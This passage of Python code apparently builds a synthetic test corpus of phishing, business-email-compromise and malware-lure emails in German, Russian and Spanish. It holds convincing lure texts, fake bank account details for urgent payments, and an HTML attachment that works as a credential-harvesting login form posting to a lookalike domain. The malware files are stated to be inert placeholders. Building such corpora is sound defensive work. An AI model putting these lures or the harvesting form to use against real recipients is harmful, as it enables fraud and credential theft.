               ("Message-ID", "<010701938f%s-000000@eu-central-1.amazonses.com>" % hx("a8m", n=30)),
               ("Feedback-ID", "::1.eu-central-1.%s=:AmazonSES" % an("a8f", n=40, alphabet=_AL + "+/")),
               ("X-SES-Outgoing", "2026.12.01-69.169.224.4")],
         body=body)

    # 09 Thread hijack from genuinely compromised supplier mailbox (p.lang)
    rc = E("schmitt")
    t = T(2, 8, 41, 19, CET)
    client, relays, extra = ionos_infra(t, "a9", login_ip="185.220.101.47", login_helo="[185.220.101.47]")
    url = "https://www.baeckerei-hofmann-online.de/wp-content/uploads/2026/11/doc/?id=%s" % hx("a9u", n=12)
    txt = ("Guten Morgen Herr Schmitt,\n\nanbei wie besprochen die aktualisierten Unterlagen zur Bestellung "
           "4500018842 (Lieferscheine + geänderte Lieferavis KW 49).\n\nDokumente herunterladen:\n%s\n\n"
           "Passwort für das Archiv: 4471\n\nBitte kurz bestätigen.\n\nMit freundlichen Grüßen\nPeter Lang\n"
           "Disposition / Versand\nLieferant GmbH\n\n"
           "-----Ursprüngliche Nachricht-----\nVon: Lukas Schmitt <l.schmitt@example.com>\nGesendet: Donnerstag, 20. November 2026 15:02\n"
           "An: Peter Lang <p.lang@lieferant-gmbh.de>\nBetreff: Liefertermin KW 49 / Bestellung 4500018842\n\n"
           "Hallo Herr Lang,\n\nkönnen Sie mir bitte den Liefertermin für die Bestellung 4500018842 bestätigen? "
           "Wir bräuchten die Ware spätestens Mittwoch KW 49 im Lager Billbrook.\n\nDanke und Gruß\nLukas Schmitt\n"
           "Logistics Coordinator\nExample Group\n" % url)
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\"></head><body>"
            "<div style=\"font-family:Calibri,Arial;font-size:11pt\">" +
            txt.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace(url, '<a href="%s">%s</a>' % (url, url)).replace("\n", "<br>\n") +
            "</div></body></html>")
    b = "----=_NextPart_000_0043_01DD620E.%s" % hx("a9b", n=8).upper()
    body = MP("alternative", [TXT(txt), HTML(html)], b)
    emit("attack", "09-de-thread-hijack-compromised-supplier.eml",
         "Reply-chain hijack from the genuinely compromised mailbox p.lang@lieferant-gmbh.de (sent via the supplier's real IONOS account from a Tor exit) with a link to a password-protected malware archive on a hacked WordPress site.",
         client=client, rcpt=rc, t=t, rp="p.lang@lieferant-gmbh.de", relays=relays,
         hdrs=[("From", A("Peter Lang", "p.lang@lieferant-gmbh.de")), ("To", A("Lukas Schmitt", rc)),
               ("Subject", ew("AW: Liefertermin KW 49 / Bestellung 4500018842", "utf-8")),
               ("Date", rfc(t, False)), ("Message-ID", "<004301dd620e$%s$%s@lieferant-gmbh.de>" % (hx("a9x", n=8), hx("a9y", n=8))),
               ("In-Reply-To", "<%s@EXMBX01.corp.example.com>" % hx("a9r", n=32)),
               ("References", "<%s@EXMBX01.corp.example.com>" % hx("a9r", n=32)),
               ("MIME-Version", "1.0"), ("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", thread_index("a9")),
               ("Content-Language", "de")] + extra,
         body=body)

    # 10 Fake job application with password-protected ZIP (malware placeholder)
    rc = E("hahn")
    t = T(30, 16, 48, 33, CET)
    inner = ("PLACEHOLDER FILE - NOT EXECUTABLE.\r\nIn the original sample this was a Windows PE executable "
             "(infostealer/loader) disguised as 'Lebenslauf_Lena_Hoffmann.pdf.exe'.\r\n").encode()
    z = mkzip_enc([("Bewerbung_Lena_Hoffmann/Lebenslauf_Lena_Hoffmann.pdf.exe", inner),
                   ("Bewerbung_Lena_Hoffmann/Anschreiben_Lena_Hoffmann.pdf.exe", inner)], "LH2026",
                  dt=(2026, 11, 30, 16, 20, 0))
    txt = ("Sehr geehrte Frau Hahn,\n\nmit großem Interesse habe ich Ihre Stellenausschreibung als Buchhalterin "
           "(m/w/d) für den Standort Hamburg gelesen und bewerbe mich hiermit.\n\n"
           "Meine vollständigen Bewerbungsunterlagen (Anschreiben, Lebenslauf, Zeugnisse) finden Sie im Anhang. "
           "Aus Datenschutzgründen habe ich das Archiv verschlüsselt, das Passwort lautet: LH2026\n\n"
           "Über eine Einladung zu einem persönlichen Gespräch würde ich mich sehr freuen.\n\nMit freundlichen Grüßen\nLena Hoffmann\n")
    b = "------------%s" % an("a10b", n=24)
    body = MP("mixed", [TXT(txt, cs="UTF-8", csname="UTF-8", cte="8bit", extra_ct="; format=flowed"),
                        ATT(z, "application/x-zip-compressed", "Bewerbung_Lena_Hoffmann.zip")], b,
              preamble="This is a multi-part message in MIME format.")
    emit("attack", "10-de-fake-application-encrypted-zip.eml",
         "Fake job application to HR with a password-protected ZIP (password in the body) containing double-extension '.pdf.exe' placeholders - classic malware delivery that evades attachment scanning.",
         client=("mout.web.de", "mout.web.de", "212.227.15.14"), rcpt=rc, t=t, rp="lena.hoffmann.bewerbung@web.de",
         relays=[rx("Received: from [192.168.178.24] ([91.64.188.213]) by smtp.web.de (mrweb106\n [213.165.67.124]) with ESMTPSA (Nemesis) id 1M%s; {D}" % an("a10i", n=17), t, 1)],
         hdrs=[("Message-ID", "<%s-%s-%s@web.de>" % (hx("a10m", n=8), hx("a10n", n=4), hx("a10o", n=12))),
               ("Date", rfc(t, False)), ("MIME-Version", "1.0"),
               ("User-Agent", "Mozilla Thunderbird"), ("Content-Language", "de-DE"),
               ("To", "p.hahn@example.com"), ("From", A("Lena Hoffmann", "lena.hoffmann.bewerbung@web.de")),
               ("Subject", ew("Bewerbung als Buchhalterin (m/w/d) – Lena Hoffmann")),
               ("X-Provags-ID", "V03:K1:" + an("a10p", n=64, alphabet=_AL + "+/"))],
         body=body)

    # 11 QR-code phishing (MFA re-registration) in a PDF
    rc = E("schmitt")
    t = T(3, 7, 58, 2, CET)
    client, relays, extra = m365_infra(t, "a11", tenant_host="AS8PR04MB8311", region="eurprd04")
    qr = qr_like("a11", mod=29, scale=4, quiet=3)
    doc = pdf([("Example Group - IT Service Desk", 16), "", ("Multi-Faktor-Authentifizierung: Neuregistrierung erforderlich", 12), "",
               "Im Rahmen der Umstellung auf phishing-resistente Anmeldeverfahren muessen alle Konten",
               "ihre MFA-Methode bis 04.12.2026 neu registrieren.", "",
               "1. Oeffnen Sie die Kamera-App Ihres Smartphones.",
               "2. Scannen Sie den QR-Code rechts.",
               "3. Melden Sie sich mit Ihren Microsoft 365 Zugangsdaten an und bestaetigen Sie die App.", "",
               "Konten ohne Neuregistrierung werden am 05.12.2026 automatisch gesperrt.", "",
               "IT Service Desk - Example Group"], title="MFA_Registrierung", author="IT Service Desk",
              image=(qr[0], qr[1], qr[2]), seed="a11")
    html = ('<html><body><div style="font-family:Segoe UI,Arial;font-size:14px">'
            '<p>Hallo Lukas,</p><p>bitte führen Sie die im Anhang beschriebene MFA-Neuregistrierung bis spätestens '
            '<b>04.12.2026</b> durch. Scannen Sie dazu den QR-Code im PDF mit Ihrem Smartphone.</p>'
            '<p>Vielen Dank<br>IT Service Desk<br>Example Group</p></div></body></html>')
    b = "_004_AS8PR04MB8311%s_" % hx("a11b", n=24).upper()
    body = MP("mixed", [MP("alternative", [TXT("Hallo Lukas,\n\nbitte führen Sie die im Anhang beschriebene MFA-Neuregistrierung bis spätestens 04.12.2026 durch. Scannen Sie dazu den QR-Code im PDF mit Ihrem Smartphone.\n\nVielen Dank\nIT Service Desk\nExample Group\n", cs="iso-8859-1"), HTML(html, cs="iso-8859-1")],
                                   "_000_AS8PR04MB8311%s_" % hx("a11c", n=24).upper()),
                        ATT(doc, "application/pdf", "MFA_Neuregistrierung_l.schmitt.pdf", size=True)], b)
    emit("attack", "11-de-qr-code-mfa-phish-pdf.eml",
         "Quishing: 'IT Service Desk' MFA re-registration notice with a PDF whose QR code leads to an adversary-in-the-middle login page, sent from a compromised third-party Microsoft 365 tenant.",
         client=client, rcpt=rc, t=t, rp="it-servicedesk@hanseatic-dental-lab.de", relays=relays,
         hdrs=[("From", A("IT Service Desk | Example Group", "it-servicedesk@hanseatic-dental-lab.de", quote=True)),
               ("To", A("Lukas Schmitt", rc)),
               ("Subject", ew("Handlungsbedarf: MFA-Neuregistrierung bis 04.12.2026", "iso-8859-1", q=True)),
               ("Thread-Index", thread_index("a11")), ("Date", rfc(t, False)),
               ("Message-ID", outlook_mid("a11", "AS8PR04MB8311", "EURPRD04")), ("Content-Language", "de-DE")] + extra,
         body=body, tls="1.2")

    # 12 Address-book / register scam (Adressbuchschwindel)
    rc = "info@example.com"
    t = T(4, 9, 2, 55, CET)
    form = pdf([("GEWERBEAUSKUNFT-ZENTRALE", 14), "Erfassung und Aktualisierung gewerblicher Eintragungen", "",
                "Firma: Example Group   Eintrag-Nr.: DE-2026-448817", "Anschrift: ________________________________",
                "Branche: Logistik / Spedition", "",
                "Bitte pruefen, ggf. korrigieren und unterschrieben zurueckfaxen an 0800 / 589 21 44 oder per E-Mail.", "",
                "Mit Ihrer Unterschrift beauftragen Sie die Eintragung in das Online-Verzeichnis zum Jahrespreis",
                "von 1.289,00 EUR zzgl. MwSt. Die Laufzeit betraegt 3 Jahre und verlaengert sich automatisch.",
                "Zahlbar jaehrlich im Voraus. Gerichtsstand: Valletta (Malta).", "",
                "Datum / Unterschrift / Stempel: ______________________________"], title="Formular", author="GZ", seed="a12")
    txt = ("Sehr geehrte Damen und Herren,\n\n"
           "zur Vervollständigung der Eintragungen im Gewerbeverzeichnis bitten wir Sie, Ihre Firmendaten im "
           "beigefügten Formular zu überprüfen und gegebenenfalls zu korrigieren.\n\n"
           "Senden Sie das Formular bitte unterschrieben bis zum 11.12.2026 zurück, damit Ihre Daten korrekt "
           "veröffentlicht werden können.\n\nMit freundlichen Grüßen\nIhre Gewerbeauskunft-Zentrale\n\n"
           "Wenn Sie keine weiteren Informationen erhalten möchten, antworten Sie mit ABMELDEN.\n")
    b = "=_%s" % hx("a12b", n=32)
    body = MP("mixed", [TXT(txt, cs="iso-8859-1", cte="quoted-printable"),
                        ATT(form, "application/pdf", "Eintragungsformular_DE-2026-448817.pdf")], b)
    emit("attack", "12-de-register-scam-form.eml",
         "'Gewerbeauskunft-Zentrale' address-book scam: official-looking data-update form that, once signed, is a 3-year directory contract at 1,289 EUR/year (unsolicited bulk fraud).",
         client=("mail.gewerbe-auskunft-zentrale.eu", "vm2214.hostinger-cloud.eu", "93.127.163.58"), rcpt=rc, t=t,
         rp="bounce-4488@gewerbe-auskunft-zentrale.eu", tls="1.2",
         hdrs=[("From", A("Gewerbeauskunft-Zentrale", "info@gewerbe-auskunft-zentrale.eu")), ("To", "info@example.com"),
               ("Subject", ew("Aktualisierung Ihrer Firmendaten - Eintrag Nr. DE-2026-448817", "iso-8859-1", q=True)),
               ("Message-ID", "<%s@gewerbe-auskunft-zentrale.eu>" % hx("a12m", n=32)),
               ("X-Mailer", "PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)"),
               ("List-Unsubscribe", "<mailto:abmelden@gewerbe-auskunft-zentrale.eu>")],
         body=body)

# =========================================================== ATTACK (ru) ==

def attack_ru():
    # 13 Fake FNS demand with ZIP (malware placeholder), windows-1251
    rc = E("smirnova")
    t = T(30, 10, 17, 44, MSK)
    inner = ("PLACEHOLDER FILE - NOT EXECUTABLE.\r\nOriginal sample: Windows screensaver executable (.scr) "
             "posing as a tax authority PDF (RAT loader).\r\n").encode()
    z = mkzip([("Требование_ФНС_№16-29-4471_от_30.11.2026.pdf.scr", inner)], dt=(2026, 11, 30, 9, 55, 0))
    txt = ("Уважаемый налогоплательщик!\n\n"
           "Межрайонная инспекция ФНС России № 16 по г. Москве направляет Вам Требование о представлении "
           "пояснений № 16-29/4471 от 30.11.2026 в связи с выявленными расхождениями в налоговой декларации по НДС "
           "за 3 квартал 2026 года.\n\n"
           "В соответствии с п. 3 ст. 88 НК РФ Вам необходимо в течение 5 рабочих дней представить пояснения "
           "или внести исправления в налоговую декларацию.\n\n"
           "Непредставление пояснений влечет ответственность по ст. 129.1 НК РФ, а также может являться "
           "основанием для приостановления операций по счетам.\n\n"
           "Требование и перечень расхождений во вложении (архив).\n\n"
           "С уважением,\nотдел камеральных проверок\nМИ ФНС России № 16\n")
    b = "----=_NextPart_%s" % hx("a13b", n=20)
    body = MP("mixed", [TXT(txt, cs="windows-1251", cte="base64"),
                        ATT(z, "application/zip", "Требование_ФНС_№16-29-4471.zip", style="2231")], b)
    emit("attack", "13-ru-fake-fns-tax-demand-zip.eml",
         "Fake Russian tax service (ФНС) 'demand for explanations' with a ZIP holding a '.pdf.scr' placeholder (RAT loader lure) to the chief accountant.",
         client=("mail.nalog-uvedomlenie.ru", "unknown", "194.87.92.31"), rcpt=rc, t=t,
         rp="info@nalog-uvedomlenie.ru", tls="1.2",
         hdrs=[("From", A("ФНС России", "uvedomlenie@nalog-uvedomlenie.ru", "windows-1251", csname="windows-1251")),
               ("To", rc), ("Subject", ew("Требование о представлении пояснений № 16-29/4471", "windows-1251", csname="windows-1251")),
               ("Message-ID", "<%s@nalog-uvedomlenie.ru>" % hx("a13m", n=24)), ("X-Mailer", "The Bat! (v11.2.1) Professional"),
               ("X-Priority", "1 (Highest)"), ("Importance", "High")],
         body=body)

    # 14 BEC: fake general director to chief accountant, KOI8-R 8bit, Yandex
    rc = E("smirnova")
    t = T(1, 12, 6, 9, MSK)
    txt = ("Ольга, добрый день!\n\n"
           "Нужно срочно сегодня до 15:00 провести оплату аванса по новому договору поставки с ООО \"СтройТехИнвест\" "
           "(договор подписан мной вчера, оригинал передам в понедельник). Сумма 2 840 000,00 руб., в т.ч. НДС 22%.\n\n"
           "Реквизиты:\nООО \"СтройТехИнвест\"\nИНН 7714498321 КПП 771401001\nр/с 40702810938000184477\n"
           "ПАО Сбербанк г. Москва\nБИК 044525225\nк/с 30101810400000000225\n"
           "Назначение: Аванс по договору N 118/26 от 01.12.2026, в т.ч. НДС\n\n"
           "Я на переговорах, звонить не могу, пишу с личной почты. Как отправите - пришлите платежку сюда.\n"
           "Вопрос на контроле у головного офиса, никому пока не говорите.\n\n"
           "А. Иванов\n\nОтправлено из Яндекс Почты для мобильных\n")
    emit("attack", "14-ru-director-impersonation-urgent-payment.eml",
         "BEC in KOI8-R: the Russian general director impersonated from a Yandex account, demanding an urgent secret advance payment to a new counterparty.",
         client=("forward102a.mail.yandex.net", "forward102a.mail.yandex.net", "178.154.239.83"), rcpt=rc, t=t,
         rp="a.ivanov.gd@yandex.ru",
         relays=[rx("Received: from mail-nwsmtp-smtp-production-main-%d.klg.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-%d.klg.yp-c.yandex.net [IPv6:2a02:6b8:c42:%s:0:640:%s:0])\n\tby forward102a.mail.yandex.net (Yandex) with ESMTPS id %s\n\tfor <o.smirnova@example.com>; {D}" % (42, 42, hx("y1", n=4), hx("y2", n=4), an("y3", n=14)), t, 1, MSK),
                 rx("Received: by mail-nwsmtp-smtp-production-main-42.klg.yp-c.yandex.net (smtp/Yandex) with ESMTPSA id %s-%s;\n\t{D}" % (an("y4", n=10), an("y5", n=8)), t, 0, MSK)],
         hdrs=[("From", A("Алексей Иванов", "a.ivanov.gd@yandex.ru", "koi8-r", csname="koi8-r")),
               ("To", A("Ольга Смирнова", rc, "koi8-r", csname="koi8-r")),
               ("Subject", ew("Срочно оплата сегодня", "koi8-r", csname="koi8-r")),
               ("Message-ID", "<%s@mail.yandex.ru>" % hx("a14m", n=20)),
               ("X-Yandex-Fwd", "1"), ("X-Mailer", "Yamail [ http://yandex.ru ] 5.0")],
         body=TXT(txt, cs="koi8-r", cte="8bit", csname="koi8-r"))

    # 15 Webmail quota phishing
    rc = E("kuznetsova")
    t = T(2, 15, 40, 11, MSK)
    link = "https://examplegroup-eu.mailbox-quota.ru/owa/auth/logon.aspx?replaceCurrent=1&u=%s" % base64.b64encode(rc.encode()).decode()
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251"></head><body>'
            '<table style="font-family:Tahoma,Arial;font-size:13px;border:1px solid #ccc" width="560"><tr><td style="background:#0072c6;color:#fff;padding:10px"><b>Outlook Web App</b></td></tr>'
            '<tr><td style="padding:16px">Уважаемый пользователь <b>%s</b>,<br><br>'
            'Ваш почтовый ящик заполнен на <b style="color:#c00">98%%</b> (49,1 ГБ из 50 ГБ).<br>'
            'Входящие сообщения будут задерживаться и возвращаться отправителям.<br><br>'
            '<div style="background:#e6e6e6;width:400px"><div style="background:#c00;width:392px;height:10px"></div></div><br>'
            'Чтобы бесплатно увеличить квоту, подтвердите свою учётную запись:<br><br>'
            '<a href="%s" style="background:#0072c6;color:#fff;padding:8px 18px;text-decoration:none">Увеличить квоту</a><br><br>'
            'Служба технической поддержки Example Group</td></tr></table></body></html>' % (rc, link))
    b = "----=_Part_%s" % hx("a15b", n=20)
    body = MP("alternative", [TXT("Ваш почтовый ящик заполнен на 98%%. Увеличить квоту: %s\n" % link, cs="windows-1251"),
                              HTML(html, cs="windows-1251")], b)
    emit("attack", "15-ru-mailbox-quota-owa-phish.eml",
         "Mailbox-quota ('98% full') credential phish imitating Outlook Web App, link to a lookalike .ru host with the victim's address encoded in the URL.",
         client=("vps1187.eurobyte.ru", "vps1187.eurobyte.ru", "185.105.109.87"), rcpt=rc, t=t,
         rp="noreply@vps1187.eurobyte.ru", tls="1.2",
         hdrs=[("From", A("Служба поддержки Example Group", "noreply@examplegroup-support.ru", "windows-1251", csname="windows-1251")),
               ("To", rc), ("Subject", ew("Ваш почтовый ящик почти заполнен (98%)", "windows-1251", q=True, csname="windows-1251")),
               ("Message-ID", "<%s@vps1187.eurobyte.ru>" % hx("a15m", n=26)), ("X-Mailer", "PHPMailer 6.8.1")],
         body=body)

    # 16 Unsolicited bulk marketing: seminars for accountants
    rc = E("smirnova")
    t = T(3, 9, 30, 0, MSK)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1251"></head><body>'
            '<table width="640" align="center" style="font-family:Arial;font-size:14px"><tr><td>'
            '<h2 style="color:#b22222">НАЛОГИ 2027: ЧТО ИЗМЕНИТСЯ ДЛЯ БУХГАЛТЕРА</h2>'
            '<p>Онлайн-семинар 10 декабря 2026 г. (10:00–17:00 МСК)</p><ul>'
            '<li>НДС 22%%: переходные положения и счета-фактуры</li><li>Новые формы отчетности в ФНС и СФР с 2027 года</li>'
            '<li>Электронные доверенности (МЧД) и ЭДО: типичные ошибки</li><li>Проверки ФНС: как подготовиться</li></ul>'
            '<p>Стоимость участия: <s>14 900</s> <b>9 900 руб.</b> при оплате до 05.12.2026. Удостоверение о повышении квалификации.</p>'
            '<p><a href="https://buhprofi-seminar.ru/nalogi-2027/?utm_source=mail&utm_campaign=dec26">Зарегистрироваться</a></p>'
            '<p style="font-size:11px;color:#888">Вы получили это письмо, так как ваш адрес размещен в открытых источниках. '
            'Чтобы отказаться от рассылки, перейдите по <a href="https://buhprofi-seminar.ru/unsub/?e=%s">ссылке</a>.</p>'
            '</td></tr></table></body></html>' % hx("a16e", n=16))
    b = "b1_%s" % hx("a16b", n=32)
    body = MP("alternative", [TXT("НАЛОГИ 2027: ЧТО ИЗМЕНИТСЯ ДЛЯ БУХГАЛТЕРА\nОнлайн-семинар 10 декабря 2026 г.\nhttps://buhprofi-seminar.ru/nalogi-2027/\n", cs="windows-1251", cte="base64"),
                              HTML(html, cs="windows-1251", cte="base64")], b)
    emit("attack", "16-ru-bulk-seminar-spam.eml",
         "Unsolicited bulk advertising of a paid tax seminar for accountants, harvested address ('из открытых источников'), sent via a Russian bulk mailer.",
         client=("mx12.sendsay-bulk.ru", "mx12.sendsay-bulk.ru", "77.222.52.112"), rcpt=rc, t=t,
         rp="bounce-%s@mx12.sendsay-bulk.ru" % hx("a16r", n=10), tls="1.2",
         hdrs=[("From", A("Учебный центр БухПрофи", "info@buhprofi-seminar.ru", "windows-1251", csname="windows-1251")),
               ("To", rc), ("Subject", ew("Налоги 2027: что изменится для бухгалтера — семинар 10 декабря", "windows-1251", csname="windows-1251")),
               ("Message-ID", "<%s.%s@buhprofi-seminar.ru>" % (hx("a16m", n=12), hx("a16n", n=8))),
               ("List-Unsubscribe", "<https://buhprofi-seminar.ru/unsub/?e=%s>" % hx("a16e", n=16)),
               ("Precedence", "bulk"), ("X-Mailer", "BulkMailer 4.2")],
         body=body)

    # 17 Fake CDEK with HTML attachment (credential form)
    rc = E("kuznetsova")
    t = T(4, 11, 22, 37, MSK)
    att = ('<!DOCTYPE html><html lang="ru"><head><meta charset="utf-8"><title>СДЭК — Накладная 1487326690</title>'
           '<style>body{font-family:Arial;background:#f4f4f4}.b{width:360px;margin:60px auto;background:#fff;padding:24px;border-top:6px solid #1ab248}</style></head>'
           '<body><div class="b"><h3>Просмотр накладной 1487326690</h3>'
           '<p>Для просмотра документа войдите с помощью корпоративной почты</p>'
           '<form action="https://cdek-nakladnaya.online/api/v2/auth" method="post">'
           '<input type="email" name="login" value="m.kuznetsova@examplegroup.eu" style="width:100%"><br><br>'
           '<input type="password" name="pass" placeholder="Пароль" style="width:100%"><br><br>'
           '<button type="submit" style="background:#1ab248;color:#fff;border:0;padding:8px 20px">Открыть</button></form>'
           '<!-- SAFE PLACEHOLDER: the original carried an obfuscated JavaScript blob (HTML smuggling) here; removed. -->'
           '</div></body></html>')
    txt = ("Здравствуйте!\n\nОтправление № 1487326690 прибыло на склад, но не может быть передано курьеру: "
           "требуется подтверждение адреса получателя.\n\nНакладная во вложении. Если адрес не будет подтвержден "
           "в течение 24 часов, отправление будет возвращено отправителю.\n\nСДЭК. Служба поддержки клиентов\n")
    b = "----=_Part_%s" % hx("a17b", n=16)
    body = MP("mixed", [TXT(txt, cs="utf-8", cte="base64"), ATT(att, "text/html; charset=utf-8", "CDEK_Nakladnaya_1487326690.html")], b)
    emit("attack", "17-ru-cdek-html-attachment-phish.eml",
         "Fake CDEK parcel notice with an HTML 'waybill' attachment that is a local credential-harvesting login form.",
         client=("smtp.cdek-logistic-info.com", "ip-91-215-85-14.hostbrr.ru", "91.215.85.14"), rcpt=rc, t=t,
         rp="robot@cdek-logistic-info.com", tls="1.3",
         hdrs=[("From", A("СДЭК", "robot@cdek-logistic-info.com")), ("To", rc),
               ("Subject", ew("Отправление № 1487326690: требуется подтверждение адреса")),
               ("Message-ID", "<%s@cdek-logistic-info.com>" % hx("a17m", n=30))],
         body=body)

    # 18 Fake arbitration court claim with link
    rc = E("ivanov")
    t = T(5, 10, 3, 12, MSK)
    txt = ("Уважаемый руководитель!\n\n"
           "Уведомляем Вас о том, что в Арбитражный суд города Москвы поступило исковое заявление "
           "ООО «ТрансКарго Плюс» к Вашей организации о взыскании задолженности по договору транспортной "
           "экспедиции в размере 3 418 250,00 руб. и неустойки.\n\n"
           "Дело № А40-287114/2026. Предварительное судебное заседание назначено на 17.12.2026 г.\n\n"
           "Ознакомиться с материалами дела (исковое заявление, расчет неустойки, приложения) можно по ссылке:\n"
           "https://kad-arbitr-dela.ru/Card/A40-287114-2026/docs.rar\n\n"
           "Пароль к архиву: 2026\n\nПомощник судьи\nАрбитражный суд г. Москвы\n")
    emit("attack", "18-ru-fake-arbitration-court-claim.eml",
         "Fake Moscow Arbitration Court notice of a lawsuit, linking to a password-protected archive on a lookalike 'kad.arbitr' domain (malware lure).",
         client=("mail.kad-arbitr-dela.ru", "unknown", "45.141.215.66"), rcpt=rc, t=t,
         rp="sud@kad-arbitr-dela.ru", tls="1.2",
         hdrs=[("From", A("Арбитражный суд г. Москвы", "sud@kad-arbitr-dela.ru", "windows-1251", csname="windows-1251")),
               ("To", rc), ("Subject", ew("Исковое заявление по делу № А40-287114/2026", "windows-1251", csname="windows-1251")),
               ("Message-ID", "<%s@kad-arbitr-dela.ru>" % hx("a18m", n=24))],
         body=TXT(txt, cs="windows-1251", cte="quoted-printable"))

# =========================================================== ATTACK (es) ==

def attack_es():
    # 19 Fake AEAT notification
    rc = E("fernandez")
    t = T(30, 12, 11, 8, CET)
    link = "https://sede-agenciatributaria.notificaciones-aeat.com/Sede/notificacion?ref=AEAT-2026-11-8827346"
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body style="font-family:Arial">'
            '<table width="620" style="border:1px solid #ddd"><tr><td style="background:#7a1e1e;color:#fff;padding:12px;font-size:18px">Agencia Tributaria</td></tr>'
            '<tr><td style="padding:20px;font-size:14px">Estimado contribuyente:<br><br>'
            'Le informamos de que tiene a su disposición una <b>notificación electrónica</b> relativa a un procedimiento de '
            'comprobación limitada del Impuesto sobre el Valor Añadido (ejercicio 2025).<br><br>'
            'Referencia: <b>AEAT-2026-11-8827346</b><br>Plazo para acceder: 10 días naturales.<br><br>'
            'Transcurrido dicho plazo la notificación se entenderá rechazada (art. 43 Ley 39/2015) y se continuará el procedimiento.<br><br>'
            '<a href="%s">Acceder a la notificación</a><br><br>Agencia Estatal de Administración Tributaria</td></tr></table></body></html>' % link)
    b = "----=_NextPart_%s" % hx("a19b", n=20)
    body = MP("alternative", [TXT("Estimado contribuyente:\n\nTiene una notificación electrónica pendiente. Referencia AEAT-2026-11-8827346.\nAcceder: %s\n" % link, cs="iso-8859-1"),
                              HTML(html, cs="iso-8859-1")], b)
    emit("attack", "19-es-fake-aeat-notification.eml",
         "Spanish tax agency (AEAT) impersonation: 'pending electronic notification' with a deadline, linking to a lookalike domain.",
         client=("srv01.notificaciones-aeat.com", "185-117-90-19.static.contaboserver.net", "185.117.90.19"), rcpt=rc, t=t,
         rp="avisos@notificaciones-aeat.com", tls="1.3",
         hdrs=[("From", A("Agencia Tributaria", "avisos@notificaciones-aeat.com")), ("To", rc),
               ("Subject", ew("Aviso: tiene una notificación pendiente (Ref. AEAT-2026-11-8827346)", "iso-8859-1", q=True)),
               ("Message-ID", "<%s@notificaciones-aeat.com>" % hx("a19m", n=28))],
         body=body)

    # 20 CEO/manager impersonation asking for WhatsApp
    rc = E("ruiz")
    t = T(1, 9, 33, 41, CET)
    txt = ("Hola Carmen,\n\n¿Estás disponible ahora? Necesito que me facilites tu número de WhatsApp, tengo que "
           "comentarte un asunto confidencial relacionado con un cliente y no puedo hablar por teléfono.\n\n"
           "Saludos,\nJavier Martínez\n\nEnviado desde mi iPhone\n")
    client = ("EUR02-DB5-obe.outbound.protection.outlook.com", "mail-db5eur02olkn2071.outbound.protection.outlook.com", "40.92.50.71")
    _c, relays, extra = m365_infra(t, "a20", tenant_host="PAWPR02MB9377", region="eurprd02", client=client,
                                   tenant_id="84df9e7f-e9f6-40af-b435-aaaaaaaaaaaa")
    b = "_000_PAWPR02MB9377%s_" % hx("a20b", n=24).upper()
    body = MP("alternative", [TXT(txt, cs="iso-8859-1"),
                              HTML('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head><body><div dir="ltr">' + txt.replace("\n", "<br>") + '</div></body></html>', cs="iso-8859-1")], b)
    emit("attack", "20-es-manager-impersonation-whatsapp.eml",
         "Executive impersonation (Spanish country manager's name) from a consumer outlook.es account asking for a WhatsApp number for a 'confidential matter' - first step of a BEC/gift-card scam.",
         client=client, rcpt=rc, t=t, rp="direccion.jmartinez@outlook.es", relays=relays,
         hdrs=[("From", A("Javier Martínez", "direccion.jmartinez@outlook.es")), ("To", A("Carmen Ruiz", rc)),
               ("Subject", "Disponible?"), ("Thread-Topic", "Disponible?"), ("Thread-Index", thread_index("a20")),
               ("Date", rfc(t, False)), ("Message-ID", outlook_mid("a20", "PAWPR02MB9377", "EURPRD02")),
               ("Accept-Language", "es-ES"), ("Content-Language", "es-ES")] + extra[:3],
         body=body, tls="1.2")

    # 21 Santander business banking phish
    rc = E("martinez")
    t = T(2, 16, 55, 2, CET)
    link = "https://empresas-santander.verificacion-firma.es/login/?s=%s" % hx("a21s", n=16)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-15"></head><body style="font-family:Arial;font-size:14px">'
            '<div style="background:#ec0000;color:#fff;padding:14px;font-size:20px">Santander Empresas</div><div style="padding:18px">'
            'Estimado cliente:<br><br>Su <b>firma electrónica de operaciones</b> ha caducado. Para seguir autorizando transferencias '
            'y remesas es necesario renovarla antes del <b>04/12/2026</b>.<br><br>'
            'Si no realiza la renovación, las operaciones pendientes de firma serán rechazadas.<br><br>'
            '<a href="%s" style="background:#ec0000;color:#fff;padding:10px 20px;text-decoration:none">Renovar firma</a><br><br>'
            'Gracias por confiar en Santander.<br><span style="font-size:11px;color:#777">Este es un mensaje automático, por favor no responda.</span>'
            '</div></body></html>' % link)
    b = "=_alternative %s_=" % hx("a21b", n=16).upper()
    body = MP("alternative", [TXT("Estimado cliente:\nSu firma electrónica ha caducado. Renovar: %s\n" % link, cs="iso-8859-15"), HTML(html, cs="iso-8859-15")], b)
    emit("attack", "21-es-santander-firma-caducada-phish.eml",
         "Santander business-banking phishing ('your signing credential expired'), sent via a compromised Spanish web host.",
         client=("cp-web47.hostalia-compartido.es", "cp-web47.hostalia-compartido.es", "212.36.74.147"), rcpt=rc, t=t,
         rp="wordpress@talleres-garcia-ribera.es", tls="1.2",
         hdrs=[("From", A("Santander Empresas", "avisos@talleres-garcia-ribera.es")), ("To", rc),
               ("Subject", ew("Aviso importante: su firma electrónica ha caducado", "iso-8859-15", q=True)),
               ("Message-ID", "<%s@talleres-garcia-ribera.es>" % hx("a21m", n=32)),
               ("X-Mailer", "WPMailSMTP/Mailer/mail 4.2.0"), ("X-PHP-Originating-Script", "1014:class-phpmailer.php")],
         body=body)

    # 22 Calendar-invite phishing (fake Teams meeting)
    rc = E("fernandez")
    t = T(3, 10, 41, 30, CET)
    join = "https://teams-live-meeting.join-session.sbs/l/meetup-join/19%%3ameeting_%s%%40thread.v2/0" % an("a22j", n=40)
    cal = ics("040000008200E00074C5B7101A82E008000000%s" % hx("a22u", n=32).upper(),
